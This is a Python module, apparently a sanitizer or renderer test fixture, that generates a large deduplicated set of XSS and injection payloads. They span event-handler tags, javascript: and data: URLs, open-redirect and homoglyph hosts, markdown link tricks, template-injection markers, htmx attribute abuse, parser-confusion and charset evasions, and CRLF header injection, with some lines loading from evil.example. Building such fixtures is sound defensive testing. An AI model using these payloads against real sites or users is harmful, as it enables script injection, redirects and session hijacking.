"""Attack lines, composed here of parts: markup, links, templates, htmx, broken parsing.

Each calls alert, loads something elsewhere or makes an element where it is not escaped. Always
the same, each once.
"""
# ruff: noqa: E501  (tables of strange texts read better in long rows)
# fmt: off

import base64
import html
from collections.abc import Callable, Iterator
from itertools import product
from typing import Final
from urllib.parse import quote

_CALL: Final = "alert(1)"
_ELSEWHERE: Final = "https://evil.example/x"
_TAGS: Final = ["a", "abbr", "article", "audio", "body", "button", "canvas", "details", "dialog", "div", "embed", "form", "frameset", "h1", "iframe", "img", "input", "isindex", "keygen", "li", "link", "main", "marquee", "math", "meta", "object", "p", "picture", "portal", "script", "section", "select", "slot", "source", "span", "style", "svg", "table", "template", "textarea", "title", "track", "video", "xss"]
_EVENTS: Final = ["onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onmouseenter", "onpointerover", "onpointerenter", "ontoggle", "onanimationstart", "onanimationend", "ontransitionend", "onbeforetoggle", "onscroll", "onwheel", "oninput", "onchange", "onsubmit", "onkeydown", "onauxclick", "onbegin", "onloadstart", "oncanplay", "onpageshow", "onhashchange", "onmessage", "onresize", "onfocusin", "oncontentvisibilityautostatechange"]
_BREAKS: Final = ['"', "'", "`", ">", '">', "'>", "`>", '"/>', '\\"', "\\'>", "&quot;>", "&#34;>", "%22>", "</p>", "</div>", "</span>", "</a>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>", "</option>", "</button>", "</mark>", "</svg>", "</math>", "</table>", "</body></html>", "-->", "--!>", "]]>", "*/", "?>", "%>", "</blockquote></article>", "</content></entry>", "&lt;/p&gt;", "\\u003c/p\\u003e", "＂＞", "＜/p＞", "'''", '"""', "}}", "''}", ";}"]
_ELEMENTS: Final = (
    "<script>alert(1)</script>",
    f"<script src={_ELSEWHERE}></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    f"<link rel=stylesheet href={_ELSEWHERE}.css>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<base href={_ELSEWHERE}>",
    f"<form action={_ELSEWHERE}><button>x</button></form>",
    f"<img src={_ELSEWHERE}.png>",
    "<style>*{background:url(//evil.example/y)}</style>",
    "<p id=mine class=err lang=x>x</p>",
)
_SCHEMES: Final = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)"),
    *("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)"),
    *("java&#10;script:alert(1)", "javascript&#0000058alert(1)", "%6aavascript:alert(1)"),
    *("javascript://x.example/%0aalert(1)", "javascript:/*https://x.example*/alert(1)", "\\javascript:alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "DATA:text/html;charset=utf-7,+ADw-script+AD4-"),
    "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode(),
    "data:image/svg+xml,<svg onload=alert(1)>",
    *("vbscript:msgbox(1)", "VBScript:alert(1)", "livescript:alert(1)", "feed:javascript:alert(1)"),
    *("view-source:javascript:alert(1)", "blob:https://x.example/a", "file:///etc/passwd", "about:blank"),
    *("ftp://x.example/a", "mailto:a@x.example?body=x", "tel:110", "ws://x.example", "intent:#Intent;end"),
    *("//evil.example", "/\\evil.example", "\\\\evil.example", "///evil.example", "http:evil.example"),
    *("https:/evil.example", "https:///evil.example", "https://a:b@evil.example", "https://x@evil.example/"),
    *("https://x.example\\@evil.example", "https://[::1]/", "https://[", "https://evil.example:99999999/"),
    *("https://%65vil.example/", "https://evil。example/", "https://ev\u200bil.example/", "https://аpple.example/"),
    *("https://", "https://#", "/sign-out", "?x", "#main", "/me/close", "\x01javascript:alert(1)"),
)
_LINKS: Final = (
    *("[x]({})", "[x](<{}>)", '[x]({} "t")', "[x]({} 'a\" onclick=alert(1) b')", "<{}>", "{}", "![x]({})"),
    *("[![a]({0})]({0})", "[{0}]({0})", "[x][1]\n\n[1]: {}", "[x]\n\n[x]: <{}> (t)", "[a [b]({}) c](https://x.example)"),
    *("- [x]({})", "> [x]({})", "**[x]({})**", "`[x]({})`", "[x](\n{}\n)", "[x](((({}))))", "\\[x]({})", "[x\\]]({})"),
    *('<a href="{}">x</a>', "<a href={}>x</a>", '<iframe src="{}"></iframe>', '<object data="{}"></object>'),
    *('<form action="{}"><input type=submit></form>', '<button formaction="{}">x</button>', '<img src="{}">'),
    *('<svg><a href="{}"><text>x</text></a></svg>', '<meta http-equiv="refresh" content="0;{}">', '<embed src="{}">'),
)
_AFTER_HOST: Final = (
    *('"onmouseover="alert(1)', "'onmouseover='alert(1)", "`onclick=alert(1)", '"><img src=x onerror=alert(1)>'),
    *("'><svg onload=alert(1)>", "<script>alert(1)</script>", "%22onfocus=alert(1)%20autofocus=%22", "&quot;onclick=alert(1)"),
    *("\\\"onclick=alert(1)", "&#34;><b>x", "*a*_b_", "](javascript:alert(1))", "](https://evil.example)", "\u202egpj.exe"),
    *("\u2028<b>", "<!--", "?q=<b>&amp;x='", "#\"><b>", "}}{{7*7}}", "%0d%0aSet-Cookie:a=b"),
)
_SHAPES: Final = (
    *("*{}*", "**{}**", "_{}_", "`{}`", "``{} ` ``", "~~{}~~", "# {}", "{}\n===", "{}\n---", "> {}", ">>>> {}", "- {}"),
    *("1. {}", "999999999. {}", "- - - {}", "    {}", "\t{}", "```\n{}\n```", "```{}\nx\n```", '```"{}\n', "~~~ {}\n~~~"),
    *("[{}](https://x.example)", "[x](https://x.example '{}')", '[x](https://x.example "{}")', "[x](https://x.example/{})"),
    *("![{}](https://x.example/y.png)", "[x]: {}", "[^1]: {}\n\n[^1]", "| {} |\n|---|\n| {} |", "<!-- {} -->", "<![CDATA[{}]]>"),
    *("<?{}?>", "<!X {}>", "<div>\n{}\n</div>", "<pre>{}", "<{}>", "&lt;{}&gt;", "\\<{}", "{}  \n{}", "{}\\\n{}", ":::{}\n:::"),
    *("$${}$$", "==^{}^==", "[[{}]]", "[{}]", "[{}][{}]", "*[HTML]: {}", "@{}", "{}{{: onclick=alert(1)}}", "!!! {}"),
)
_INSIDE: Final = (
    *("<b>x</b>", "<img src=x onerror=alert(1)>", '" onclick="alert(1)', "</code></pre><script>alert(1)</script>", "--><b>"),
    *("]](javascript:alert(1))", "&#60;b&#62;", "x</p><p id=p0>", "<svg/onload=alert(1)//", "'\"`<>&"),
)
_EVALUATED: Final = ("7*7", "alert(1)", "constructor.constructor('alert(1)')()", "self.__init__.__globals__", "''.__class__", "config")
_MARKERS: Final = (
    *("{{{{{}}}}}", "{{%{}%}}", "{{#{}#}}", "${{{}}}", "#{{{}}}", "*{{{}}}", "@{{{}}}", "<%={}%>", "<%-{}%>", "<?={}?>"),
    *("[[{}]]", "[({})]", "{{{{{{{}}}}}}}", "%({})s", "%{{{}}}", "{{!{}!}}", "@({})", "~[{}]", "$!{{{}}}", "`{}`", "eval({})"),
)
_HX: Final = (
    *('hx-get="{0}"', 'hx-post="{0}"', 'hx-delete="{0}"', 'hx-get="{0}" hx-trigger="load"', 'hx-post="{0}" hx-trigger="load"'),
    *('data-hx-get="{0}" data-hx-trigger="load"', 'hx-on:click="alert(1)"', 'hx-on::load="alert(1)"', 'hx-on="click: alert(1)"'),
    *("hx-vals='js:{{x: alert(1)}}' hx-get={0}", 'hx-vars="x:alert(1)"', 'hx-headers=\'js:{{"x":alert(1)}}\'', 'hx-boost="true"'),
    *('hx-swap-oob="true" id="mine"', 'hx-swap-oob="outerHTML:body"', 'hx-select-oob="#main"', 'hx-target="body" hx-get="{0}"'),
    *('hx-ext="{0}"', 'hx-include="*" hx-post="{0}"', 'hx-push-url="{0}"', 'hx-replace-url="{0}"', 'hx-confirm="{0}"'),
    *('hx-trigger="every 1s[alert(1)]" hx-get="{0}"', 'hx-action="{0}" hx-method="post"', 'hx-sse="connect:{0}"', 'hx-config="{0}"'),
)
_HX_ON: Final = ("div", "a", "form", "button", "span", "hx-partial", "template hx", "li")
_EATERS: Final = ["noscript", "style", "title", "textarea", "template", "xmp", "iframe", "noembed", "noframes", "plaintext", "select", "svg", "math", "table", "form", "svg><style", "math><mtext><mglyph", "math><annotation-xml", "svg><foreignObject", "svg><desc", "svg><title", "option", "script", "p", "details"]
_HIDDEN: Final = (
    '<p title="</{0}><img src=x onerror=alert(1)>">',
    '<a id="</{0}><svg onload=alert(1)>">x',
    "<!--</{0}><script>alert(1)</script>-->",
    "<style><!--</style></{0}><img src=x onerror=alert(1)>--></style>",
    "</{0}><img src=x onerror=alert(1)>",
    "<img src='</{0}>' onerror=alert(1)>",
    "<![CDATA[</{0}><b>]]>",
)
_CHARSETS: Final = (
    *("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(1)¼/script¾", "﹤script﹥alert(1)﹤/script﹥", "<ſcript>alert(1)</ſcript>"),
    *("＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "\\x3cscript\\x3e", "\\u003cscript\\u003e"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60script&#62alert(1)", "&#x3Cscript&#x3E", "&LT;script&GT;"),
    *("<\u200bscript>alert(1)</script>", "<scr\u00adipt>", "<sc<script>ript>alert(1)</sc</script>ript>", "<script\u2028>alert(1)</script>"),
    *("\u2060<script>", "<a\u00a0onclick=alert(1)>", "<a/\u3000/onclick=alert(1)>", "<İmg src=x onerror=alert(1)>", "<img\u000bsrc=x onerror=alert(1)>"),
    *("<img src=x\x00 onerror=alert(1)>", "\x1b$B<script>alert(1)</script>\x1b(B", "<\x00script>alert(1)</script>", "\ud83d<script>"),
)
_HEADERS: Final = ("Set-Cookie: a=b", "Location: https://evil.example", "HX-Redirect: https://evil.example", "HX-Trigger: x", "Content-Type: text/html", "\r\n<script>alert(1)</script>", "Content-Disposition: inline", "HX-Location: /sign-out")
_NEWLINES: Final = ("\r\n", "\n", "%0d%0a", "%0a", "\u2028", "\u560d\u560a", "\\r\\n", "&#13;&#10;")
_FORMS: Final[tuple[Callable[[str, str], str], ...]] = (
    lambda tag, event: f"<{tag} {event}={_CALL}>",
    lambda tag, event: f'<{tag.upper()}/src=x {event}="{_CALL}" autofocus tabindex=1>x</{tag}>',
    lambda tag, event: f"<{tag}\n{event}\n=\n'{html.escape(_CALL)}&#41;' style=animation:x>",
    lambda tag, event: f"<{tag} x='>' {event.title()}=&#97;lert&lpar;1)//",
    lambda tag, event: html.escape(f"<{tag} {event}={_CALL}>"),
    lambda tag, event: quote(f"<{tag} {event}={_CALL}>"),
)


def _lines() -> Iterator[str]:
    for number, (tag, event) in enumerate(product(_TAGS, _EVENTS)):
        yield _FORMS[number % len(_FORMS)](tag, event)
    for ending, element in product(_BREAKS, _ELEMENTS):
        yield f"x{ending}{element}"
    for quoting, event in product(("'", '"', "`", "\\'", '" ', "&quot;"), _EVENTS):
        yield f"{quoting} {event}={_CALL} autofocus x={quoting}"
    for link, url in product(_LINKS, _SCHEMES):
        yield link.format(url)
    for link, rest in product(_LINKS, _AFTER_HOST):
        yield link.format(f"https://x.example/{rest}")
    for shape, inside in product(_SHAPES, _INSIDE):
        yield shape.format(inside, inside)
    for marker, asked in product(_MARKERS, _EVALUATED):
        yield marker.format(asked)
    for tag, attributes, url in product(_HX_ON, _HX, ("/sign-out", _ELSEWHERE)):
        yield f"<{tag} {attributes.format(url)}>x</{tag.split()[0]}>"
    for eater, hidden in product(_EATERS, _HIDDEN):
        yield f"<{eater}>{hidden.format(eater.rpartition('<')[2])}"
    yield from _CHARSETS
    for newline, header in product(_NEWLINES, _HEADERS):
        yield f"x{newline}{header}"


ATTACKS: Final = tuple(dict.fromkeys(_lines()))
